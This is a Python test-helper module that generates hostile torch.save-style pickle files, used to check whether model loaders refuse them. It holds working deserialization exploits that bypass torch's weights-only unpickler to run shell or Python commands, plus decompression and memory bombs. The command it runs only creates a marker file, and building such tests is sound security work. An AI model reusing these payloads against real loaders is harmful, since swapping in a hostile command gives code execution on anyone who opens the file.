# Copyright (c) mmnanguard contributors. All rights reserved.
"""Hostile ``torch.save``-style files, generated in the test, never stored.

Each attack is a pickle stream that, when unpickled by a loader that lets
it, creates a marker file. They are written as real torch archives (zip,
``data.pkl`` replaced) or in torch's legacy (non-zip) format, so the
loaders under test take their usual paths. Python's own pickler (protocol
2, the one ``torch.save`` uses) writes most of them from :class:`Call`
objects; the few that need opcodes it never emits are written raw.
"""

import io
import os
import pickle
import struct
import zipfile
import zlib
from typing import Any, Callable, Dict, Tuple

import numpy as np
import torch
from mmengine.config import Config
from mmengine.logging.history_buffer import HistoryBuffer


class Call:
    """Pickles as ``fn(*args)`` (``REDUCE``), then ``SETITEMS`` of
    ``items`` into the result, then ``BUILD`` of ``state`` (if given)."""

    def __init__(
        self, fn: Any, *args: Any, items: Dict = None, state: Any = None
    ) -> None:
        self.fn, self.args, self.items, self.state = fn, args, items, state

    def __call__(self):  # pickle wants a callable ``fn``
        raise TypeError('only pickled, never called')

    def __reduce__(self):
        items = iter(self.items.items()) if self.items else None
        return (self.fn, self.args, self.state, None, items)


class Persistent:
    """Pickles as ``BINPERSID`` of ``pid`` (see :func:`dumps`)."""

    def __init__(self, pid: Tuple) -> None:
        self.pid = pid


class _Pickler(pickle.Pickler):
    def persistent_id(self, obj):
        return obj.pid if isinstance(obj, Persistent) else None


def dumps(obj: Any) -> bytes:
    """Protocol 2 pickle of ``obj``, with :class:`Persistent` ids."""
    buf = io.BytesIO()
    _Pickler(buf, protocol=2).dump(obj)
    return buf.getvalue()


def _op_global(module: str, name: str) -> bytes:
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def _op_str(text: str) -> bytes:
    data = text.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def shell(marker: str) -> str:
    """A shell command that creates ``marker``."""
    return f'touch {marker}'


def python(marker: str) -> str:
    """A Python expression that creates ``marker``."""
    return f"__import__('os').system('touch {marker}')"


# -- the attacks: each returns the pickle stream --------------------------


def getattr_to_module_globals(marker: str) -> bytes:
    """``getattr`` to a function's ``__globals__`` (torch.serialization's),
    ``SETITEM`` of ``eval`` (reached as ``getattr(getattr.__self__,
    'eval')``) over ``_maybe_decode_ascii``, then a persistent id that the
    weights-only unpickler hands to it."""
    builtins = Call(getattr, getattr, '__self__')
    globals_ = Call(
        getattr,
        torch.serialization._get_layout,
        '__globals__',
        items={'_maybe_decode_ascii': Call(getattr, builtins, 'eval')},
    )
    return dumps((globals_, Persistent((python(marker),))))


def history_buffer_statistics(marker: str = '') -> bytes:
    """A ``HistoryBuffer`` state whose ``statistics_methods`` maps
    ``'mean'`` to ``HistoryBuffer.max``: mmengine's ``__setstate__`` merges
    it into the class, for every buffer in the process."""
    state = dict(
        max_length=10,
        _log_history=np.array([1.0, 3.0]),
        _count_history=np.array([1, 1]),
        statistics_methods={'mean': HistoryBuffer.max},
    )
    return _raw_history_buffer(state)


def history_buffer_extra_attribute(marker: str = '') -> bytes:
    """A ``HistoryBuffer`` state with an attribute a buffer never has."""
    return _raw_history_buffer(
        dict(
            max_length=10,
            _log_history=np.array([1.0]),
            _count_history=np.array([1]),
            _statistics_methods={},
        )
    )


def object_array(marker: str = '') -> bytes:
    """A numpy array of object dtype, as numpy pickles it but without the
    dtype's ``BUILD`` (torch refuses ``BUILD`` of ``ObjectDType``; the
    dtype's call alone makes it)."""
    core = getattr(np, '_core', None)
    multiarray = (core if hasattr(core, 'multiarray') else np.core).multiarray
    dtype = Call(np.dtype, 'O8', False, True)
    state = (1, (2,), dtype, False, [1, 'a'])
    return dumps(
        Call(multiarray._reconstruct, np.ndarray, (0,), b'b', state=state)
    )


def history_buffer_never_built(marker: str = '') -> bytes:
    """A message hub whose ``HistoryBuffer`` is created (``NEWOBJ``) but
    never restored (no ``BUILD``): no state to check, no attributes."""
    buffer = (
        _op_global('mmengine.logging.history_buffer', 'HistoryBuffer')
        + b')\x81'
    )
    scalars = b'}' + _op_str('train/loss') + buffer + b's'
    hub = b'}' + _op_str('log_scalars') + scalars + b's'
    return b'\x80\x02}' + _op_str('message_hub') + hub + b's.'


def foreign_call(marker: str) -> bytes:
    """A plain ``os.system`` reduce (refused by torch alone)."""
    return dumps(Call(os.system, shell(marker)))


def collect_env_run(marker: str) -> bytes:
    """``torch.utils.collect_env.run`` runs a shell command."""
    from torch.utils import collect_env

    return dumps(Call(collect_env.run, shell(marker)))


def numpy_runstring(marker: str) -> bytes:
    """``numpy.testing._private.utils.runstring`` is ``exec``."""
    from numpy.testing._private import utils

    return dumps(Call(utils.runstring, python(marker), {}))


def nested_torch_load(inner: str) -> bytes:
    """``torch.load(inner, None, pickle)``: a pickle module given by
    position turns ``weights_only`` off for the inner file."""
    return (
        b'\x80\x02'
        + _op_global('torch.serialization', 'load')
        + b'('
        + _op_str(inner)
        + b'N'
        + _op_global('torch.serialization', 'pickle')
        + b'tR.'
    )


def numpy_load_pickle(inner: str) -> bytes:
    """``numpy.load(inner, None, True)``: ``allow_pickle`` by position."""
    return dumps(Call(np.load, inner, None, True))


def hub_load_local(hub_dir: str) -> bytes:
    """``torch.hub._load_local(dir, 'model')`` imports ``dir/hubconf.py``."""
    return dumps(Call(torch.hub._load_local, hub_dir, 'model'))


def getattr_config_fromfile(config: str) -> bytes:
    """``getattr(Config, 'fromfile')(config)`` runs the Python file."""
    return dumps(Call(Call(getattr, Config, 'fromfile'), config))


def dotted_global_proto4(marker: str) -> bytes:
    """``PROTO 4`` with ``GLOBAL torch os.system`` (a dotted name)."""
    return (
        b'\x80\x04'
        + _op_global('torch', 'os.system')
        + _op_str(shell(marker))
        + b'\x85R.'
    )


def builtins_setattr(marker: str) -> bytes:
    """``builtins.setattr`` (it starts with ``builtins.set``) replaces
    ``torch.serialization._maybe_decode_ascii`` with
    ``collect_env.run``; the persistent id that follows is its input."""
    return (
        b'\x80\x02('
        + _op_global('builtins', 'setattr')
        + _op_global('torch', 'serialization')
        + _op_str('_maybe_decode_ascii')
        + _op_global('torch.utils.collect_env', 'run')
        + b'\x87R'
        + _op_str(shell(marker))
        + b'\x85Q'
        + b't.'
    )


def _raw_history_buffer(state: Dict[str, Any]) -> bytes:
    """NEWOBJ + BUILD of a ``HistoryBuffer`` with ``state`` (raw)."""
    body = dumps(state)[2:-1]  # drop PROTO and STOP
    return (
        b'\x80\x02'
        + _op_global('mmengine.logging.history_buffer', 'HistoryBuffer')
        + b')\x81'
        + body
        + b'b.'
    )


# -- writing them as torch files -------------------------------------------


def write_zip(path: str, payload: bytes) -> str:
    """A torch zip archive whose ``data.pkl`` is ``payload``."""
    torch.save({}, path)
    with zipfile.ZipFile(path) as src:
        records = {info.filename: src.read(info) for info in src.infolist()}
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for name, data in records.items():
            if name.endswith('/data.pkl'):
                data = payload
            dst.writestr(name, data)
    return path


def write_legacy(path: str, payload: bytes) -> str:
    """A torch legacy-format (non-zip) file whose object is ``payload``."""
    buf = io.BytesIO()
    torch.save({}, buf, _use_new_zipfile_serialization=False)
    buf.seek(0)
    for _ in range(4):  # magic number, protocol, sys info, the object
        start = buf.tell()
        pickle.load(buf)
    head, rest = buf.getvalue()[:start], buf.getvalue()[buf.tell() :]
    with open(path, 'wb') as f:
        f.write(head + payload + rest)
    return path


def deflated_zeros(size: int, chunk: int = 1 << 20) -> bytes:
    """A raw deflate stream that inflates to ``size`` zero bytes (a
    multiple of ``chunk``), made without holding them: after a full flush
    the compressor starts afresh, so every chunk compresses to the same
    bytes (about 1 KB per MiB), which are repeated."""
    if size % chunk:
        raise ValueError(f'size={size} is not a multiple of {chunk}')
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(chunk))
    block += compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(bytes(chunk))
    again += compressor.flush(zlib.Z_FULL_FLUSH)
    if block != again:
        raise RuntimeError('zlib made different blocks for the same chunk')
    return block * (size // chunk) + compressor.flush()


def write_bomb(path: str, entry: str, size: int) -> str:
    """Turn the torch zip archive ``path`` into a decompression bomb: its
    entry ending with ``entry`` (``'data.pkl'``, ``'data/0'``) becomes a
    deflated stream of ``size`` zero bytes, declared as such in the
    central directory (what torch's and Python's readers allocate by).
    The CRC is left at 0: a reader finds out only after inflating."""
    with zipfile.ZipFile(path) as src:
        records = [(info.filename, src.read(info)) for info in src.infolist()]
    if not any(name.endswith(entry) for name, _ in records):
        raise ValueError(f'{path} has no entry ending with {entry!r}')
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as dst:
        for name, data in records:
            if not name.endswith(entry):
                dst.writestr(name, data)
                continue
            dst.writestr(name, deflated_zeros(size))
            info = dst.getinfo(name)
            # read back through the central directory written at close
            info.compress_type = zipfile.ZIP_DEFLATED
            info.file_size = size
            info.CRC = 0
    return path


def write_legacy_storage_bomb(path: str, obj: Any, numel: int) -> str:
    """``obj`` saved by ``torch.save`` in the legacy (non-zip) format, with
    the ``numel`` of its first storage's persistent id raised to
    ``numel`` (what torch's legacy loader allocates by, before it reads
    the storage's bytes). The file keeps its size."""
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    raw = buf.getvalue()
    # the persistent id (..., 'cpu', numel, view): numel follows 'cpu' and
    # its memo PUT; torch writes a small one as BININT1 or BININT2
    key = b'X\x03\x00\x00\x00cpuq'
    at = raw.index(key) + len(key) + 1
    widths = {b'K': 2, b'M': 3, b'J': 5}
    width = widths[raw[at : at + 1]]
    packed = b'\x8a\x08' + struct.pack('<q', numel)  # LONG1, 8 bytes
    with open(path, 'wb') as f:
        f.write(raw[:at] + packed + raw[at + width :])
    return path


WRITERS: Dict[str, Callable[[str, bytes], str]] = {
    'zip': write_zip,
    'legacy': write_legacy,
}
